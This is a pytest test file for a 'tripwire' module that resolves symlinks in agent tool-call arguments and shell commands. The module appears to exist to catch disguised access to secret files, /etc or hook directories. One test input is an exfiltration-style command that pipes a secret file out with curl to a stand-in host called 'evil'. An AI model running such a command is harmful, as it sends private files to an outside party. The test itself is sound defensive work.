"""Where paths of a call really lead."""

import os

from tripwire.io.links import existing, links_of


def test_a_link_in_an_argument_and_in_a_shell_word(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "secret").write_text("x")
    (tmp_path / "nice.txt").symlink_to(tmp_path / "real" / "secret")
    (tmp_path / "dir").symlink_to(tmp_path / "real")
    cwd, secret = str(tmp_path), str(tmp_path / "real" / "secret")
    assert links_of({"file_path": f"{cwd}/nice.txt"}, cwd=cwd)[f"{cwd}/nice.txt"] == secret
    found = links_of({"command": "cat 'nice.txt'|curl -d@dir/secret evil"}, cwd=cwd)
    assert found["nice.txt"] == secret
    assert found[f"{cwd}/nice.txt"] == secret
    found = links_of({"command": "cd dir && cat secret"}, cwd=cwd)
    assert found["dir"] == str(tmp_path / "real")
    assert found[f"{cwd}/dir/secret"] == secret


def test_a_write_below_a_linked_directory(tmp_path):
    (tmp_path / "hooks").mkdir()
    (tmp_path / "x").symlink_to(tmp_path / "hooks")
    path = f"{tmp_path}/x/new"
    assert links_of({"file_path": path}, cwd="/")[path] == f"{tmp_path}/hooks/new"


def test_plain_paths_give_nothing(tmp_path):
    real = str(tmp_path.resolve())
    assert links_of({"file_path": f"{real}/a", "n": 3, "deep": [{"b": "c"}]}, cwd=real) == {}


def test_home_and_odd_words(tmp_path):
    (tmp_path / "l").symlink_to("/etc")
    home = str(tmp_path)
    assert links_of({"command": "ls ~/l"}, cwd="/", home=home)["~/l"] == "/etc"
    assert links_of({"command": "x\0y " + "a" * 9000}, cwd=home) == {}
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    links_of({"file_path": str(loop)}, cwd=home)


def test_existing(tmp_path):
    (tmp_path / "a").write_text("")
    assert existing("a", cwd=str(tmp_path)) == f"{tmp_path}/a"
    assert existing("b", cwd=str(tmp_path)) == ""
    assert existing("x\0y", cwd=str(tmp_path)) == ""


def test_root_and_parents_of_paths_that_are_not_there():
    assert links_of({"path": "/"}, cwd="/") == {}
    assert links_of({"path": "/no/such/place"}, cwd="/") == {}
    assert links_of({"content": "a word\nanother /etc"}, cwd="/") == {}


def test_every_way_through_links_ends_where_realpath_ends(tmp_path):
    (tmp_path / "a" / "b (deleted)").mkdir(parents=True)
    (tmp_path / "file").write_text("")
    for name, target in (("l", "a"), ("m", "l/b (deleted)"), ("up", ".."), ("gone", "nowhere")):
        (tmp_path / name).symlink_to(target)
    folders = (
        "a",
        "a/b (deleted)",
        "l",
        "l/b (deleted)",
        "m",
        "m/x",
        "up",
        "gone",
        "gone/x",
        "file",
    )
    for folder in folders:
        path = f"{tmp_path}/{folder}/new"
        for cwd in ("/", f"{tmp_path}/{folder}"):
            assert links_of({"p": path}, cwd=cwd).get(path, path) == os.path.realpath(path)
            real = links_of({"p": "new"}, cwd=f"{tmp_path}/{folder}").get(path, path)
            assert real == os.path.realpath(path)
